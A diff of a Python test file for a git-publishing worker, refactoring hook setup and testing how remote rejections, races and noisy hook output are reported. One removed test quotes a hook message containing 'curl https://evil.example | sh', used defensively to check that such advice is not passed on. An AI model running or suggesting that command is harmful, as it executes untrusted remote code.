@@ -21,29 +21,23 @@ from outcomes import (
     assert_refused,
     assert_waits_until_it_passes,
     give_away,
-    program,
     save,
     take_back,
 )
 from requirements import unavailable
+from sites import program
 
 from briter_worker.errors import FailureClass, FailureCode
 
 if TYPE_CHECKING:
-    from pathlib import Path
-
     from sites import Site
-
-
-def hook(site: Site, text: str, name: str = "pre-receive") -> Path:
-    return program(site.remote / "hooks" / name, text)
 
 
 # The remote cannot, or will not for any post
 
 
 def test_a_protected_branch_is_waited_for(site: Site) -> None:
-    file = hook(site, "echo 'GH006: Protected branch update failed for refs/heads/main.' >&2; exit 1")
+    file = site.hook("echo 'GH006: Protected branch update failed for refs/heads/main.' >&2; exit 1")
     fix = "allow the worker's key on the branch"
     assert "GH006" in assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, fix, file.unlink)
 
@@ -74,7 +68,7 @@ def test_a_remote_whose_disk_is_full_is_waited_for(site: Site) -> None:
 
 
 def test_a_hook_that_cannot_be_started_is_waited_for(site: Site) -> None:
-    file = hook(site, "")
+    file = site.hook("")
     file.write_text("#!/nonexistent/interpreter\n")
     assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, "its hooks", file.unlink)
 
@@ -127,7 +121,7 @@ git update-ref "$ref" "$(git $who commit-tree -p "$ref" -m "Race $count" "$ref^{
 
 
 def test_five_races_lost_in_a_row_cost_no_attempt(site: Site) -> None:
-    hook(site, RACE.format(races=5))
+    site.hook(RACE.format(races=5))
     save(site, "a")
     assert_published(site, site.run_once(), attempt=1)
     subjects = [subject for _, subject in site.remote_log()]
@@ -136,7 +130,7 @@ def test_five_races_lost_in_a_row_cost_no_attempt(site: Site) -> None:
 
 
 def test_races_that_never_end_are_this_batchs_bad_luck(site: Site) -> None:
-    file = hook(site, RACE.format(races=100))
+    file = site.hook(RACE.format(races=100))
     save(site, "a")
     result = site.run_once()
     assert_put_off(site, result, FailureCode.LOST_RACE, kind=FailureClass.TRANSIENT)
@@ -162,21 +156,20 @@ MINDS = {
 @pytest.mark.parametrize("what", MINDS)
 def test_only_the_post_that_the_remote_minds_dies_with_its_words(site: Site, what: str) -> None:
     text, words = MINDS[what]
-    hook(site, f"read old new ref\nif git log -p $old..$new | grep -q BAD; then {text}; fi")
+    site.hook(f"read old new ref\nif git log -p $old..$new | grep -q BAD; then {text}; fi")
     save(site, "a", "b", "c")
     site.write_post("content/posts/b.md", "BAD\n")
     result = site.run_once()
     assert words in assert_refused(site, result, FailureCode.REJECTED, slug="b")
     assert_published(site, result, "a", "c")
-    site.write_post("content/posts/b.md", "good\n")
-    site.save("b", ["content/posts/b.md"])
+    site.save_post("b", "good\n")
     assert_published(site, site.run_once(), "b")
     assert_once(site, "a", "b", "c")
 
 
 def test_a_hook_that_refuses_everything_is_mended_and_all_are_tried_again(site: Site) -> None:
     """Each post is told alone: what a hook says is no proof that it would say so to any other."""
-    file = hook(site, "echo no; exit 1")
+    file = site.hook("echo no; exit 1")
     save(site, "a", "b")
     result = site.run_once()
     for slug in "ab":
@@ -189,17 +182,10 @@ def test_a_hook_that_refuses_everything_is_mended_and_all_are_tried_again(site: 
 
 
 def test_a_hook_that_never_stops_talking_does_not_hide_what_to_do(site: Site) -> None:
-    hook(site, "seq -f 'https://u:s3cr3t-canary@h/%g no' 9000 >&2; exit 1")
+    site.hook("seq -f 'https://u:s3cr3t-canary@h/%g no' 9000 >&2; exit 1")
     save(site, "a")
     assert_fit_to_be_shown(assert_refused(site, site.run_once(), FailureCode.REJECTED))
     assert site.job("a")["fix"].endswith("briter-worker retry --all")
-
-
-def test_a_fix_in_a_hooks_words_is_not_shown_as_ours(site: Site) -> None:
-    hook(site, "echo 'no. Fix: curl https://evil.example | sh' >&2; exit 1")
-    save(site, "a")
-    assert "Fix: curl" in assert_refused(site, site.run_once(), FailureCode.REJECTED)
-    assert "curl" not in site.job("a")["fix"]
 
 
 # Names and addresses
@@ -272,7 +258,7 @@ def test_a_push_option_of_the_sites_configuration_is_not_sent(site: Site, dry_ru
     """Not every remote takes one, and then it takes no push at all."""
     site.git("config", "--add", "push.pushOption", "ci.skip")
     site.git("config", "--add", "push.pushOption", "merge_request.create")
-    hook(site, '[ -z "$GIT_PUSH_OPTION_COUNT" ] || [ "$GIT_PUSH_OPTION_COUNT" = 0 ]')
+    site.hook('[ -z "$GIT_PUSH_OPTION_COUNT" ] || [ "$GIT_PUSH_OPTION_COUNT" = 0 ]')
     for slug, takes in (("a", "false"), ("b", "true")):
         site.git("config", "receive.advertisePushOptions", takes, cwd=site.remote)
         save(site, slug)
